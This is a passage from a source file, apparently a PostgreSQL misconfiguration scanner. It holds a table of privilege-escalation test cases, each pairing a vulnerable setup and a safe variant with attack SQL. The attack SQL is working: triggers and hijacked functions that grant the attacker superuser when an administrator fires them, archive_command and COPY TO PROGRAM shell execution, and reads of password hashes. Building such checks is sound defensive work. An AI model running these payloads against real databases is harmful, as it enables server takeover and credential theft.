SELECT 'gained' FROM s.loot WHERE who = '{r}boss' LIMIT 1;
ROLLBACK;)x"},
        {.id = "ESC-EVENTTRIGGER",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; CREATE FUNCTION s.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
ALTER FUNCTION s.f() OWNER TO {r}app; CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION s.f();)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; CREATE FUNCTION s.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
CREATE EVENT TRIGGER watch ON ddl_command_end EXECUTE FUNCTION s.f();)x",
         .to = "superuser",
         .does =
             R"x(CREATE OR REPLACE FUNCTION s.f() RETURNS event_trigger LANGUAGE plpgsql AS $$
BEGIN IF current_setting('is_superuser')::bool THEN UPDATE pg_authid SET rolsuper = true WHERE rolname = '{r}app'; END IF; END $$;)x",
         .victim_is = "{super}",
         .victim = "CREATE TABLE public.x (a int);",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER EVENT TRIGGER watch DISABLE; CREATE OR REPLACE FUNCTION s.f() RETURNS "
                  "event_trigger LANGUAGE plpgsql AS 'BEGIN END'; ALTER EVENT TRIGGER watch "
                  "ENABLE; DROP TABLE public.x; ALTER ROLE {r}app NOSUPERUSER;"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE ON SCHEMA s TO {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION s.tax() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.tax() OWNER TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.vip() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ SELECT s.tax() $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE ON SCHEMA s TO {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION s.tax() RETURNS text LANGUAGE sql AS 'SELECT 1::text'; ALTER FUNCTION s.tax() OWNER TO {r}boss;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE FUNCTION safe.vip() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$ SELECT s.tax() $$; ALTER FUNCTION safe.vip() OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE OR REPLACE FUNCTION s.tax() RETURNS text LANGUAGE sql AS 'SELECT current_user::text';
SELECT 'gained' WHERE safe.vip() = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; ALTER FUNCTION s.stamp() OWNER TO {r}app; CREATE FUNCTION s.check() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; ALTER FUNCTION s.check() OWNER TO {r}app; CREATE TABLE public.u (a int); CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION s.stamp(); CREATE TRIGGER y BEFORE UPDATE ON public.u FOR EACH ROW EXECUTE FUNCTION s.check(); ALTER TABLE public.u OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; CREATE TABLE public.u (a int); CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION s.stamp(); ALTER TABLE public.u OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = "CREATE OR REPLACE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS "
                 "'BEGIN PERFORM s.steal(); RETURN NEW; END';",
         .victim_is = "{r}boss",
         .victim = "INSERT INTO public.u VALUES (1);",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "CREATE OR REPLACE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS "
                  "'BEGIN RETURN NEW; END'; TRUNCATE s.loot;"},
        {.id = "ESC-VIEW",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT (a) ON public.v TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
CREATE VIEW public.v AS SELECT a FROM public.secret;)x",
         .to = "what the owner of a view or rule reads or writes by it",
         .does = "TABLE public.v;"},
        {.id = "ESC-VIEW",
         .since = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
CREATE VIEW public.v WITH (security_invoker = true) AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
         .to = "what the owner of a view or rule reads or writes by it",
         .does = "TABLE public.v;"},
        {.id = "ESC-VIEW",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'x'::text AS a;
CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT DELETE ON public.v TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'x'::text AS a;
CREATE VIEW public.v AS SELECT DISTINCT a FROM public.secret; GRANT DELETE ON public.v TO {r}app;)x",
         .to = "what the owner of a view or rule reads or writes by it",
         .does = R"x(DELETE FROM public.v;
\! psql -X -q -At -d '{where} user={super} dbname={db}' -c "SELECT 'gained' WHERE NOT EXISTS (TABLE public.secret)")x",
         .reset = "INSERT INTO public.secret VALUES ('x');"},
        {.id = "ESC-MATVIEW",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
CREATE MATERIALIZED VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT (a) ON public.v TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
CREATE MATERIALIZED VIEW public.v AS SELECT a FROM public.secret;)x",
         .to = "what the owner of a view or rule reads or writes by it",
         .does = "TABLE public.v;"},
        {.id = "ESC-RULE",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); CREATE TABLE public.t (a text); CREATE RULE r AS ON INSERT TO public.t DO INSTEAD INSERT INTO public.secret VALUES (NEW.a);
GRANT INSERT ON public.t TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); CREATE TABLE public.t (a text); CREATE RULE r AS ON INSERT TO public.t DO INSTEAD INSERT INTO public.secret VALUES (NEW.a);
GRANT SELECT ON public.t TO {r}app;)x",
         .to = "what the owner of a view or rule reads or writes by it",
         .does = R"x(INSERT INTO public.t VALUES ('gained');
\! psql -X -q -At -d '{where} user={super} dbname={db}' -c 'TABLE public.secret')x",
         .reset = "TRUNCATE public.secret;"},
        {.id = "ESC-UNTRUSTED-LANG",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE LANGUAGE plany HANDLER plpgsql_call_handler;
CREATE FUNCTION public.run(what text) RETURNS void LANGUAGE plany SECURITY DEFINER AS $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', what); END $$;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE LANGUAGE plany HANDLER plpgsql_call_handler;
CREATE FUNCTION public.run(what text) RETURNS void LANGUAGE plany SECURITY DEFINER AS $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', what); END $$; REVOKE EXECUTE ON FUNCTION public.run(text) FROM PUBLIC;)x",
         .to = "the server's operating-system user",
         .does = R"x(SELECT public.run('cat > {data}/{db}.written');
CREATE FUNCTION pg_temp.mine() RETURNS void LANGUAGE plany AS 'BEGIN END';)x",
         .shell = "test -e {data}/{db}.written && rm {data}/{db}.written"},
        {.id = "ESC-WRITE-CATALOG",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT UPDATE (rolsuper), SELECT (rolname) ON pg_authid TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT UPDATE, INSERT, DELETE ON pg_authid TO {r}app; GRANT SELECT (rolname) ON pg_authid TO {r}app;)x",
         .to = "superuser",
         .does = R"x(BEGIN; UPDATE pg_authid SET rolsuper = true WHERE rolname = '{r}app';
SELECT 'gained' FROM pg_roles WHERE rolname = '{r}app' AND rolsuper;
ROLLBACK;)x"},
        {.id = "ESC-WRITE-CATALOG",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE VIEW public.roles AS SELECT rolname, rolsuper FROM pg_catalog.pg_authid;
GRANT SELECT, UPDATE ON public.roles TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE VIEW public.roles AS SELECT rolname, rolsuper FROM pg_catalog.pg_authid;
GRANT SELECT ON public.roles TO {r}app;)x",
         .to = "superuser",
         .does = R"x(BEGIN; UPDATE public.roles SET rolsuper = true WHERE rolname = '{r}app';
SELECT 'gained' FROM pg_roles WHERE rolname = '{r}app' AND rolsuper;
ROLLBACK;)x"},
        {.id = "ESC-USERMAP",
         .since = 12,
         .extension = "postgres_fdw",
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss md5",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); GRANT USAGE ON FOREIGN SERVER back TO {r}app; CREATE USER MAPPING FOR PUBLIC SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); CREATE USER MAPPING FOR PUBLIC SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FOREIGN TABLE s.there (a text) SERVER back OPTIONS (schema_name 'public', table_name 'secret');
TABLE s.there;
ROLLBACK;)x"},
        {.id = "ESC-FDW-LOOP",
         .since = 12,
         .extension = "dblink",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE EXTENSION dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text, text) TO {r}app; GRANT USAGE ON SCHEMA public TO PUBLIC;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE EXTENSION dblink; GRANT USAGE ON SCHEMA public TO PUBLIC;)x",
         .to = "{super}",
         .does = R"x(SELECT public.dblink_connect_u('c', '{where} dbname={db} user={super}');
SELECT 'gained' FROM public.dblink('c', 'SELECT 1 FROM pg_authid LIMIT 1') AS there (a int);)x"},
        {.id = "ESC-SUBSCRIPTION",
         .since = 12,
         .until = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app;
CREATE DATABASE {db}p;
\connect {db}p
CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
\connect {db}
CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {r}app; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false);
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app;
CREATE DATABASE {db}p;
\connect {db}p
CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
\connect {db}
CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {super}; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false);
)x",
         .to = "{super}",
         .does =
             R"x(CREATE FUNCTION s.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF current_setting('is_superuser')::bool THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN NEW; END $$;
CREATE TRIGGER x BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION s.f();
ALTER TABLE public.t ENABLE ALWAYS TRIGGER x;)x",
         .victim_is = "{super}",
         .victim =
             R"x(\! psql -X -q -d '{where} user={super} dbname={db}p' -c 'INSERT INTO public.t VALUES (1)'
DO $$ BEGIN FOR i IN 1 .. 200 LOOP EXIT WHEN (SELECT count(*) > 0 FROM public.t); PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP TRIGGER IF EXISTS x ON public.t; DROP "
                  "FUNCTION IF EXISTS s.f(); TRUNCATE public.t;"},
        {.id = "ESC-SUBSCRIPTION",
         .since = 16,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app;
CREATE DATABASE {db}p;
\connect {db}p
CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
\connect {db}
CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {r}app; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false, run_as_owner = true);
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app;
CREATE DATABASE {db}p;
\connect {db}p
CREATE TABLE public.t (a int); CREATE PUBLICATION p FOR TABLE public.t; SELECT pg_create_logical_replication_slot('{db}', 'pgoutput');
\connect {db}
CREATE TABLE public.t (a int); GRANT INSERT ON public.t TO {r}app; ALTER TABLE public.t OWNER TO {r}app; CREATE SUBSCRIPTION {db} CONNECTION '{where} dbname={db}p user={super}' PUBLICATION p WITH (create_slot = false, slot_name = '{db}', copy_data = false);
)x",
         .to = "{super}",
         .does =
             R"x(CREATE FUNCTION s.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF current_setting('is_superuser')::bool THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN NEW; END $$;
CREATE TRIGGER x BEFORE INSERT ON public.t FOR EACH ROW EXECUTE FUNCTION s.f();
ALTER TABLE public.t ENABLE ALWAYS TRIGGER x;)x",
         .victim_is = "{super}",
         .victim =
             R"x(\! psql -X -q -d '{where} user={super} dbname={db}p' -c 'INSERT INTO public.t VALUES (1)'
DO $$ BEGIN FOR i IN 1 .. 200 LOOP EXIT WHEN (SELECT count(*) > 0 FROM public.t); PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP TRIGGER IF EXISTS x ON public.t; DROP "
                  "FUNCTION IF EXISTS s.f(); TRUNCATE public.t;"},
        {.id = "ESC-PARAM",
         .since = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT ALTER SYSTEM ON PARAMETER archive_command TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
GRANT ALTER SYSTEM ON PARAMETER session_preload_libraries TO {r}app;)x",
         .to = "the server's operating-system user",
         .does = R"x(ALTER SYSTEM SET archive_command = 'touch {data}/{db}.written';
ALTER SYSTEM SET session_preload_libraries = 'auto_explain';)x",
         .victim_is = "{super}",
         .victim = R"x(SELECT pg_reload_conf();
CREATE TABLE IF NOT EXISTS public.w (a int); INSERT INTO public.w VALUES (1);
SELECT pg_switch_wal();
DO $$ BEGIN FOR i IN 1 .. 100 LOOP EXIT WHEN (pg_stat_file('{db}.written', true)).size IS NOT NULL; PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
         .then = R"x(\connect
SELECT 'gained' FROM pg_settings WHERE name = 'auto_explain.log_analyze';)x",
         .shell = "test -e {data}/{db}.written && rm {data}/{db}.written",
         .reset = R"x(ALTER SYSTEM RESET archive_command;
ALTER SYSTEM RESET session_preload_libraries;
SELECT pg_reload_conf();
SELECT pg_sleep(1);
\! rm -f {data}/{db}.written)x"},
        {.id = "ESC-PARAM",
         .since = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
SELECT lo_from_bytea(0, 'x');
GRANT SET ON PARAMETER lo_compat_privileges TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
SELECT lo_from_bytea(0, 'x');
GRANT SET ON PARAMETER log_statement TO {r}app;)x",
         .to = "every large object",
         .does = R"x(SET lo_compat_privileges = on;
SELECT 'gained' FROM (SELECT lo_get(oid) FROM pg_largeobject_metadata) AS all_of_them LIMIT 1;)x"},
        {.id = "ESC-PARAM",
         .since = 15,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
GRANT SET ON PARAMETER session_preload_libraries TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
)x",
         .to = "the server's operating-system user",
         .does = R"x(ALTER ROLE {r}app SET session_preload_libraries = 'auto_explain';
\connect
SELECT 'gained' FROM pg_settings WHERE name = 'auto_explain.log_analyze';)x",
         .reset = "ALTER ROLE {r}app RESET session_preload_libraries;"},
        {.id = "ESC-PARAM",
         .since = 19,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN REPLICATION;
GRANT SET ON PARAMETER output_plugin_libraries TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN REPLICATION;
)x",
         .to = "the server's operating-system user",
         .does = R"x(SET output_plugin_libraries = 'auto_explain';
SELECT pg_create_logical_replication_slot('{db}', 'auto_explain', true);
SELECT 'gained' FROM pg_settings WHERE name = 'auto_explain.log_analyze';)x"},
        {.id = "ESC-PARAM",
         .since = 15,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
GRANT ALTER SYSTEM ON PARAMETER search_path TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
GRANT ALTER SYSTEM ON PARAMETER default_tablespace TO {r}app;)x",
         .to = "superuser",
         .does = R"x(CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
ALTER SYSTEM SET search_path = s, pg_catalog;)x",
         .victim_is = "{super}",
         .victim = R"x(SELECT pg_reload_conf();
SELECT pg_sleep(0.3);
\connect
SELECT lower('X'::varchar);)x",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
ALTER SYSTEM RESET search_path;
SELECT pg_reload_conf();
DROP FUNCTION IF EXISTS s.lower(varchar);)x"},
        {.id = "ESC-EXTENSION",
         .since = 13,
         .extension = "hstore",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA s AUTHORIZATION {r}app; ALTER DATABASE {db} OWNER TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA s AUTHORIZATION {r}app;)x",
         .to = "the scripts of trusted extensions, run as the bootstrap superuser",
         .does = R"x(BEGIN; CREATE EXTENSION hstore SCHEMA s;
SELECT 'gained' FROM pg_proc WHERE proname = 'hstore_in' AND proowner = 10;
ROLLBACK;)x"},
        {.id = "ESC-SEARCHPATH",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
ALTER DATABASE {db} SET search_path = s, pg_catalog;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;)x",
         .to = "superuser",
         .does = R"x(CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
)x",
         .victim_is = "{super}",
         .victim = "SELECT lower('X'::varchar);",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP FUNCTION IF EXISTS s.lower(varchar);"},
        {.id = "ESC-HASH",
         .since = 12,
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss scram-sha-256",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
GRANT SELECT (rolname, rolpassword) ON pg_authid TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
GRANT SELECT (rolname, rolpassword) ON pg_authid TO {r}app;)x",
         .to = "{r}boss",
         .does = "SELECT rolpassword FROM pg_authid WHERE rolname = '{r}boss';",
         .hash_of = "{r}boss"},
        {.id = "ESC-HASH",
         .since = 12,
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss md5",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
GRANT SELECT ON pg_shadow TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
GRANT SELECT (usename) ON pg_shadow TO {r}app; GRANT SELECT ON pg_user TO {r}app;)x",
         .to = "{r}boss",
         .does = "SELECT passwd FROM pg_shadow WHERE usename = '{r}boss';",
         .hash_of = "{r}boss"},
        {.id = "ESC-HASH",
         .since = 14,
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss md5",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
GRANT pg_read_all_data TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
SET password_encryption = 'scram-sha-256'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
GRANT pg_read_all_data TO {r}app;)x",
         .to = "{r}boss",
         .does = "SELECT rolpassword FROM pg_authid WHERE rolname = '{r}boss';",
         .hash_of = "{r}boss"},
        {.id = "ESC-HASH",
         .since = 12,
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss md5",
         .setup = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
CREATE VIEW public.v AS SELECT rolname, rolpassword FROM pg_catalog.pg_authid;
GRANT SELECT ON public.v TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN; GRANT USAGE ON SCHEMA public TO PUBLIC;
SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
CREATE VIEW public.v AS SELECT rolname, rolpassword FROM pg_catalog.pg_authid;)x",
         .to = "{r}boss",
         .does = "SELECT rolpassword FROM public.v WHERE rolname = '{r}boss';",
         .hash_of = "{r}boss"},
        {.id = "ESC-HASH",
         .since = 12,
         .certain = false,
         .hba = "local {db} {r}boss md5",
         .hba_without = "local {db} {r}boss md5",
